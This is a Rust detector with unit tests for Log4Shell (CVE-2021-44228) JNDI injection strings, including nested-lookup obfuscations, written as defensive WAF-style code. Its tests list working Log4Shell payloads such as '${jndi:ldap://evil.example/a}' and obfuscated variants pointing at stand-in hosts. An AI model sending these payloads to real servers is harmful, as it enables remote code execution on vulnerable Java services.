//! Log4Shell (CVE-2021-44228) JNDI lookups, after CRS 944150/944151/944152: `${jndi:` with the
//! nested-lookup obfuscations seen in the wild (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`,
//! `${env:X:-j}`), which we resolve before matching. Plain `${var}` templates do not fire.

const MAX_ROUNDS: usize = 8;

/// Resolves the innermost `${...}` lookups that yield a literal: `${lower:x}`/`${upper:x}` to
/// `x`, `${anything:-x}` to `x`. Other lookups are left alone.
fn resolve_once(v: &str) -> Option<String> {
    let bytes = v.as_bytes();
    let mut out = String::with_capacity(v.len());
    let mut i = 0;
    let mut changed = false;
    while i < bytes.len() {
        if bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'{') {
            // Find the matching close of an innermost lookup (no nested `${` inside).
            if let Some(rel) = v[i + 2..].find('}') {
                let inner = &v[i + 2..i + 2 + rel];
                if !inner.contains("${") {
                    let lower = inner.to_ascii_lowercase();
                    let lit = if let Some(p) = inner.find(":-") {
                        Some(&inner[p + 2..])
                    } else if lower.starts_with("lower:") || lower.starts_with("upper:") {
                        Some(&inner[6..])
                    } else {
                        None
                    };
                    if let Some(lit) = lit {
                        out.push_str(lit);
                        i += 2 + rel + 1;
                        changed = true;
                        continue;
                    }
                }
            }
        }
        let ch = v[i..].chars().next().unwrap_or('\u{fffd}');
        out.push(ch);
        i += ch.len_utf8().max(1);
    }
    changed.then_some(out)
}

fn has_jndi(v: &str) -> bool {
    let l = v.to_ascii_lowercase();
    l.contains("${jndi:")
}

pub fn detect(v: &str) -> Option<&'static str> {
    if !v.contains("${") {
        return None;
    }
    if has_jndi(v) {
        return Some("jndi lookup");
    }
    let mut cur = v.to_string();
    for _ in 0..MAX_ROUNDS {
        match resolve_once(&cur) {
            Some(next) => {
                if has_jndi(&next) {
                    return Some("obfuscated jndi lookup");
                }
                cur = next;
            }
            None => break,
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::detect;

    #[test]
    fn payloads_fire() {
        for p in [
            "${jndi:ldap://evil.example/a}",
            "${JNDI:rmi://1.2.3.4:1099/x}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
            "${${upper:j}${lower:N}di:dns://x}",
            "Mozilla/5.0 ${jndi:ldap://x.example/a}",
        ] {
            assert!(detect(p).is_some(), "{p}");
        }
    }

    #[test]
    fn templates_do_not_fire() {
        for p in [
            "${name}",
            "Hello ${user.name}, welcome",
            "${price:-0}",
            "$5 {x}",
            "${",
        ] {
            assert_eq!(detect(p), None, "{p}");
        }
    }
}
